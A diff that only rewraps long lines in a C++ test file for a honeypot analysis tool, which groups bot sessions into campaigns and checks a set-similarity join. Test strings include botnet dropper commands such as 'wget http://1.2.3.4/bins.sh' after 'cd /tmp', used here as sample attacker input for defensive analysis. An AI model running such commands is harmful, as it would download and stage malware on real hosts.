@@ -54,14 +54,16 @@ Spec unrelated(const std::string& session, const std::string& ip) {
 std::map<std::string, std::string> campaign_by_session(const cb::Findings& f) {
     const cb::Table& sc = table(f, "session_campaigns");
     std::map<std::string, std::string> m;
-    for (const auto& r : sc.rows) m[text(r[col(sc, "sensor")]) + "/" + text(r[col(sc, "session")])] = text(r[col(sc, "campaign")]);
+    for (const auto& r : sc.rows)
+        m[text(r[col(sc, "sensor")]) + "/" + text(r[col(sc, "session")])] = text(r[col(sc, "campaign")]);
     return m;
 }
 
 }  // namespace
 
 TEST(Campaigns, BotsThatDifferOnlyInAddressesShareACampaignAcrossSensors) {
-    ASSERT_EQ(cb::command_template("wget http://1.2.3.4/bins.sh"), cb::command_template("wget http://198.51.100.7/bins.sh"));
+    ASSERT_EQ(cb::command_template("wget http://1.2.3.4/bins.sh"),
+              cb::command_template("wget http://198.51.100.7/bins.sh"));
     std::vector<Spec> specs = {bot("a1", "s1", "1.1.1.1", "1.2.3.4"), bot("a2", "s2", "2.2.2.2", "198.51.100.7"),
                                bot("a3", "s3", "3.3.3.3", "203.0.113.9"), unrelated("b1", "4.4.4.4"),
                                unrelated("b2", "5.5.5.5")};
@@ -98,7 +100,8 @@ TEST(Campaigns, BotsThatDifferOnlyInAddressesShareACampaignAcrossSensors) {
               "http://1.2.3.4/bins.sh:2;http://198.51.100.7/bins.sh:1;http://203.0.113.9/bins.sh:1");
     EXPECT_EQ(text(bots[col(t, "shasums")]), std::string(64, 'a') + ":4");
     // Example commands: the most common set's smallest session (s1/a1), raw, in order.
-    EXPECT_EQ(text(bots[col(t, "example_commands")]).rfind("cd /tmp || cd /var/run\nwget http://1.2.3.4/bins.sh\n", 0), 0u);
+    EXPECT_EQ(text(bots[col(t, "example_commands")]).rfind("cd /tmp || cd /var/run\nwget http://1.2.3.4/bins.sh\n", 0),
+              0u);
     EXPECT_EQ(text(bots[col(t, "example_sessions")]), "s1/a1\ns1/a4\ns2/a2");
     EXPECT_EQ(text(bots[col(t, "first_seen")]), "2024-01-01T00:00:00.000000Z");
     EXPECT_EQ(num(t.rows[1][col(t, "sessions")]), 2);
@@ -225,7 +228,8 @@ std::vector<std::uint32_t> brute_force(const std::vector<std::vector<std::uint32
     for (std::size_t i = 0; i < sets.size(); ++i)
         for (std::size_t j = i + 1; j < sets.size(); ++j) {
             std::vector<std::uint32_t> in;
-            std::set_intersection(sets[i].begin(), sets[i].end(), sets[j].begin(), sets[j].end(), std::back_inserter(in));
+            std::set_intersection(sets[i].begin(), sets[i].end(), sets[j].begin(), sets[j].end(),
+                                  std::back_inserter(in));
             const std::size_t o = in.size(), u = sets[i].size() + sets[j].size() - o;
             if (o >= 2 && 2 * o >= u) {
                 auto a = find(static_cast<std::uint32_t>(i)), b = find(static_cast<std::uint32_t>(j));
@@ -247,7 +251,8 @@ TEST(Campaigns, SimilarityJoinIsExact) {
         Rng r(seed);
         std::vector<std::vector<std::uint32_t>> bases(6);
         for (auto& b : bases)
-            for (std::size_t k = 0, n = 2 + r.below(10); k < n; ++k) b.push_back(static_cast<std::uint32_t>(r.below(60)));
+            for (std::size_t k = 0, n = 2 + r.below(10); k < n; ++k)
+                b.push_back(static_cast<std::uint32_t>(r.below(60)));
         std::set<std::vector<std::uint32_t>> uniq;
         for (int i = 0; i < 300; ++i) {
             std::set<std::uint32_t> s;
